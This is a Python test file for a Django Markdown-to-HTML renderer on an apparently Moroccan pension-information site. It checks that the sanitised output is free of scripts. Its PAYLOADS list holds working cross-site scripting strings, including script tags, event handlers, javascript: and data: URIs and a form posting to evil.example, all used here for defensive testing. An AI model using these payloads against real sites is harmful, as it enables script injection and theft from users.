"""knowledge.rendering.render_body: Markdown in, sanitised HTML out. Whatever an editor (or
an attacker with an editor's account) writes, no script runs on the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from knowledge.rendering import render_body

ALLOWED_TAGS = {"p", "br", "hr", "h2", "h3", "h4", "strong", "em", "ul", "ol", "li", "a",
                "blockquote", "code", "pre", "table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "align"}
SAFE_HREF = re.compile(r"(https?://|mailto:|tel:|/[^/]|#)\S*")


class _Markup(HTMLParser):
    """Every tag and attribute of an HTML fragment, as a browser's tokenizer reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


def assert_harmless(html: str) -> None:
    """Only the allowed tags and attributes, links to safe addresses only (the text may
    say "javascript:" or "<script>", escaped: it is then words on the page)."""
    markup = _Markup()
    markup.feed(html)
    markup.close()
    assert set(markup.tags) <= ALLOWED_TAGS, html
    for name, value in markup.attributes:
        assert name in ALLOWED_ATTRIBUTES, html
        if name == "href":
            assert SAFE_HREF.fullmatch(value), html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]( java\tscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<style>body { display: none }</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=\"https://evil.example\"><input name=cin></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <img src=x onerror=alert(1)>",
    "- <a href=x onclick=alert(1)>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    html = render_body(f"Texte avant\n\n{payload}\n\nTexte après")
    assert_harmless(html)
    assert "Texte avant" in html and "Texte après" in html


@pytest.mark.parametrize("html", ['<img src="x">', '<p onclick="x()">a</p>',
                                  '<a href="javascript:alert(1)">a</a>', '<a href="//x">a</a>',
                                  '<p style="color:red">a</p>'])
def test_the_check_itself_catches_harmful_markup(html):
    with pytest.raises(AssertionError):
        assert_harmless(html)


def test_markdown_is_rendered():
    html = render_body("## Conditions\n\n- **3 240 jours** déclarés\n- *55 ans*\n\n"
                       "| Âge | Taux |\n|---|---|\n| 60 | 50 % |\n\n> À confirmer par la CNSS")
    assert isinstance(html, SafeString)
    for fragment in ("<h2>Conditions</h2>", "<li><strong>3 240 jours</strong> déclarés</li>",
                     "<em>55 ans</em>", "<td>60</td>", "<blockquote>"):
        assert fragment in html


def test_arabic_text_is_kept_as_written():
    text = "## الشروط\n\nيستحق **معاش الشيخوخة** عند بلوغ ستين سنة."
    html = render_body(text)
    assert "<h2>الشروط</h2>" in html and "<strong>معاش الشيخوخة</strong>" in html


@pytest.mark.parametrize(("link", "href"), [
    ("https://www.cnss.ma/fr/page?x=1#a", "https://www.cnss.ma/fr/page?x=1#a"),
    ("mailto:contact@example.ma", "mailto:contact@example.ma"),
    ("tel:+212522000000", "tel:+212522000000"),
    ("/aide/retraite-anticipee/", "/aide/retraite-anticipee/"),
    ("#documents", "#documents"),
])
def test_safe_links_keep_their_address(link, href):
    assert f'<a href="{href}" rel="noopener noreferrer">lien</a>' in render_body(
        f"[lien]({link})")


@pytest.mark.parametrize("link", ["//evil.example/x", "relative/page", "ftp://x/y",
                                  "java%20script:alert(1)"])
def test_other_links_lose_their_address(link):
    html = render_body(f"[lien]({link})")
    assert "href" not in html and "lien" in html


def test_html_special_characters_are_escaped_in_text():
    html = render_body("Montant < 100 & durée > 3 mois, `<b>code</b>`")
    assert "&lt; 100 &amp; durée &gt; 3" in html
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in html


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "texte", "\n\n", "[a](", ")", "<", ">", "\"",
                                 "'", "=", "on", "error", "javascript", ":", "**", "`"]),
                max_size=12))
def test_no_mix_of_payloads_survives(parts):
    assert_harmless(render_body("".join(parts)))
